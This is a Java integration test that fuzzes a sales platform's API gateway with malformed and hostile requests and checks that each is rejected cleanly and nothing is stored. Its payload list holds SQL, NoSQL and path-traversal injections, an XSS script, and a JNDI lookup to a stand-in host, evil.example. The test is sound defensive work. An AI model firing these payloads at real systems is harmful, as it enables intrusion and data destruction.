package io.stageflow.platform;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.stageflow.events.EventType;
import io.stageflow.events.ids.TenantId;
import io.stageflow.platform.demo.StageflowClient;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The fuzz suite: well over a thousand malformed or hostile requests through the gateway — broken
 * JSON, wrong types, missing and over-long fields, injection strings, unknown stages, absurd ranges,
 * huge bodies, wrong media types, hostile ids — sent by a caller who may do everything, so that only
 * validation stands in the way. Each write must be a client error that says so (a 4xx without a stack
 * trace); no request may be a 5xx; and nothing may be stored.
 */
class HostileInputIT {
    private static final String TENANT = "fuzz-" + UUID.randomUUID().toString().substring(0, 8);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP =
            HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private static final List<Object> HOSTILE = List.of(
            "",
            " ",
            "'; DROP TABLE leads; --",
            "{\"$gt\":\"\"}",
            "$where",
            "../../../../etc/passwd",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "\u0000",
            "\u202Eevil",
            "x".repeat(10_000),
            "NaN",
            "-1",
            "1e309",
            "9999999999999999999999999999",
            Map.of("$gt", ""),
            List.of("a", "b"),
            true,
            -1,
            Double.MAX_VALUE,
            new java.math.BigDecimal("1e400"));

    private static LocalPlatform platform;
    private static StageflowClient admin;
    private static String lead;
    private static String deal;
    private static String account;

    @BeforeAll
    static void aTenantWithOneOfEach() {
        platform = RunningPlatform.get();
        admin = StageflowClient.signIn(platform.gatewayUrl(), TENANT, "root", List.of("executive", "admin"));
        lead = admin.post("/api/leads", validLead()).path("leadId").asText();
        deal = admin.post("/api/opportunities", validDeal())
                .path("opportunityId")
                .asText();
        account = admin.post("/api/accounts", validAccount()).path("accountId").asText();
    }

    private static Map<String, Object> validLead() {
        return new LinkedHashMap<>(
                Map.of("source", "web", "industry", "retail", "region", "EMEA", "ownerId", "root", "teamId", "north"));
    }

    private static Map<String, Object> validDeal() {
        Map<String, Object> deal = validLead();
        deal.put("amount", 1000);
        deal.put("currency", "EUR");
        return deal;
    }

    private static Map<String, Object> validAccount() {
        return new LinkedHashMap<>(
                Map.of("name", "Initech", "industry", "retail", "region", "EMEA", "ownerId", "root"));
    }

    /**
     * Values no free-text field takes. Any string is a valid source or owner name, so hostile strings
     * there would be data, not attacks: those fields get blank, over-long and non-text values.
     */
    private static final List<Object> NOT_TEXT = List.of("", " ", "x".repeat(10_000), Map.of("$gt", ""), List.of("a"));

    /**
     * A command endpoint and a valid body of required fields only, whose every field the fuzz spoils
     * in turn; {@code freeText} names the fields any string is valid for.
     */
    record Target(String method, String path, Map<String, Object> valid, List<String> freeText) {
        Target(String method, String path, Map<String, Object> valid) {
            this(method, path, valid, List.of());
        }

        List<Object> hostileFor(String field) {
            List<Object> values = freeText.contains(field) ? NOT_TEXT : HOSTILE;
            // Any list of strings is a reason list: a list field is spoilt with non-lists only.
            return valid.get(field) instanceof List
                    ? values.stream().filter(value -> !(value instanceof List)).toList()
                    : values;
        }
    }

    private static final List<String> DIMENSIONS = List.of("source", "industry", "region", "ownerId", "teamId");

    private static List<Target> targets() {
        String leadPath = "/api/leads/" + lead;
        String dealPath = "/api/opportunities/" + deal;
        return List.of(
                new Target("POST", "/api/leads", validLead(), DIMENSIONS),
                new Target("POST", leadPath + "/stage", Map.of("stage", "CONTACTED")),
                new Target("POST", leadPath + "/disqualify", Map.of("reason", "no budget")),
                new Target("POST", leadPath + "/convert", Map.of("amount", 100)),
                new Target("POST", leadPath + "/reassign", Map.of("ownerId", "root", "teamId", "south"), DIMENSIONS),
                new Target("POST", "/api/opportunities", validDeal(), DIMENSIONS),
                new Target("POST", dealPath + "/stage", Map.of("stage", "PROPOSAL")),
                new Target("POST", dealPath + "/lose", Map.of("reason", "price")),
                new Target("POST", dealPath + "/amount", Map.of("amount", 2000)),
                new Target("POST", dealPath + "/close-date", Map.of("expectedCloseDate", "2027-01-31")),
                new Target("POST", "/api/accounts", validAccount(), List.of("name", "industry", "region", "ownerId")),
                new Target(
                        "POST", "/api/accounts/" + account + "/churn", Map.of("reason", "budget"), List.of("reason")),
                new Target(
                        "POST",
                        "/api/pipelines",
                        Map.of(
                                "name",
                                "P",
                                "stages",
                                List.of(
                                        Map.of("name", "A", "probability", 10),
                                        Map.of("name", "B", "probability", 50))),
                        List.of("name")),
                new Target("PUT", "/api/quotas/rep/root/2026", Map.of("amount", 100, "currency", "EUR")),
                new Target("PUT", "/api/marketing-spend/web/2026", Map.of("amount", 100, "currency", "EUR")),
                new Target("PUT", "/api/reason-lists/loss", Map.of("reasons", List.of("price", "other"))));
    }

    private static final List<String> BROKEN_BODIES = List.of(
            "",
            "{",
            "}",
            "[",
            "null",
            "[]",
            "\"text\"",
            "42",
            "{\"a\":}",
            "{'stage':'NEW'}",
            "{\"stage\":\"NEW\"",
            "{\"stage\":\"NEW\"}}}",
            "{\"stage\":NaN}",
            "\uFEFF{}",
            "{\"a\":1,\"a\":2}",
            "[".repeat(5_000) + "]".repeat(5_000),
            "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000));

    @Test
    void hostileRequestsAreClientErrorsAndNothingIsStored() throws Exception {
        Map<EventType, Integer> before = census();
        List<HttpRequest> requests = new ArrayList<>();
        for (Target target : targets()) {
            for (String body : BROKEN_BODIES) {
                requests.add(json(target.method(), target.path(), body));
            }
            requests.add(
                    request(target.method(), target.path(), "text/plain", JSON.writeValueAsString(target.valid())));
            requests.add(request(target.method(), target.path(), "application/xml", "<lead/>"));
            Map<String, Object> unknown = new LinkedHashMap<>(target.valid());
            unknown.put("isAdmin", true);
            requests.add(json(target.method(), target.path(), JSON.writeValueAsString(unknown)));
            for (String field : target.valid().keySet()) {
                Map<String, Object> missing = new LinkedHashMap<>(target.valid());
                missing.remove(field);
                requests.add(json(target.method(), target.path(), JSON.writeValueAsString(missing)));
                for (Object hostile : target.hostileFor(field)) {
                    Map<String, Object> spoilt = new LinkedHashMap<>(target.valid());
                    spoilt.put(field, hostile);
                    requests.add(json(target.method(), target.path(), JSON.writeValueAsString(spoilt)));
                }
            }
            requests.add(json(target.method(), target.path(), "{\"pad\":\"" + "x".repeat(2_000_000) + "\"}"));
        }
        for (Object hostile : HOSTILE) {
            String value = URLEncoder.encode(String.valueOf(hostile), StandardCharsets.UTF_8);
            for (String query : List.of(
                    "win-rate?from=" + value,
                    "win-rate?to=" + value,
                    "win-rate?grain=" + value,
                    "win-rate?groupBy=" + value,
                    "funnel?stages=" + value + "&mode=" + value,
                    "pipeline?asOf=" + value,
                    "stalled?limit=" + value,
                    "reps?period=" + value,
                    "reps?by=" + value,
                    "cycle-time?" + value + "=1",
                    "loss-analysis?team=" + value + "&groupBy=source",
                    "forecast?source=" + value,
                    "pipeline-changes?from=2026-01-01&to=" + value,
                    "unit-economics?from=" + value + "&to=2027-01-01")) {
                requests.add(get("/api/metrics/" + query));
            }
            requests.add(get("/api/leads/" + value));
            requests.add(get("/api/opportunities?stage=" + value + "&size=" + value));
            requests.add(get("/api/leads?status=" + value + "&page=" + value));
        }
        for (String absurd : List.of(
                "from=2027-01-01&to=2026-01-01",
                "from=0000-01-01",
                "from=-999999999-01-01",
                "from=2026-02-30",
                "from=2026-01-01T00:00:01Z",
                "team=a&source=b&industry=c",
                "source=web&groupBy=industry",
                "from=2026-01-01&to=2026-01-02&grain=century")) {
            requests.add(get("/api/metrics/win-rate?" + absurd));
        }
        requests.add(request("DELETE", "/api/leads/" + lead, "application/json", ""));
        requests.add(request("PATCH", "/api/opportunities/" + deal, "application/json", "{}"));
        requests.add(get("/api/leads/" + "a".repeat(5_000)));

        assertThat(requests).hasSizeGreaterThanOrEqualTo(1_000);
        List<String> failures = new ArrayList<>();
        int[] byClass = new int[6];
        for (HttpRequest request : requests) {
            HttpResponse<String> response = HTTP.send(request, HttpResponse.BodyHandlers.ofString());
            int status = response.statusCode();
            byClass[status / 100]++;
            String body = response.body();
            // A read may answer (nothing to store); a write must be refused; nothing may be a 5xx.
            boolean read = request.method().equals("GET");
            if (status >= 500 || (!read && status < 400)) {
                failures.add(status + " for " + describe(request) + ": " + abbreviate(body));
            } else if (body.contains("Exception") || body.contains("\tat ") || body.contains("java.")) {
                failures.add("a stack trace for " + describe(request) + ": " + abbreviate(body));
            }
        }
        System.out.printf(
                "HostileInputIT: %d requests, 2xx %d, 4xx %d, 5xx %d%n",
                requests.size(), byClass[2], byClass[4], byClass[5]);
        assertThat(failures).isEmpty();

        // Nothing stored: no event beyond the three the set-up recorded, the records as they were.
        Thread.sleep(3_000);
        assertThat(census()).isEqualTo(before);
        assertThat(admin.get("/api/leads/" + lead).path("version").asLong()).isZero();
        assertThat(admin.get("/api/opportunities/" + deal).path("version").asLong())
                .isZero();
    }

    private static Map<EventType, Integer> census() throws InterruptedException {
        // The forwarder publishes a moment after the commit: wait until the set-up's events are out.
        Map<EventType, Integer> census = Map.of();
        for (int attempt = 0; attempt < 50; attempt++) {
            census = TopicCensus.of(platform.kafkaBootstrapServers(), new TenantId(TENANT));
            if (census.values().stream().mapToInt(Integer::intValue).sum() >= 3) {
                break;
            }
            Thread.sleep(200);
        }
        return census;
    }

    private static HttpRequest json(String method, String path, String body) {
        return request(method, path, "application/json", body);
    }

    private static HttpRequest get(String path) {
        return HttpRequest.newBuilder(URI.create(platform.gatewayUrl() + path))
                .timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + admin.token())
                .GET()
                .build();
    }

    private static HttpRequest request(String method, String path, String contentType, String body) {
        return HttpRequest.newBuilder(URI.create(platform.gatewayUrl() + path))
                .timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + admin.token())
                .header("Content-Type", contentType)
                .method(method, HttpRequest.BodyPublishers.ofString(body))
                .build();
    }

    private static String describe(HttpRequest request) {
        return request.method() + " " + abbreviate(request.uri().toString());
    }

    private static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }
}
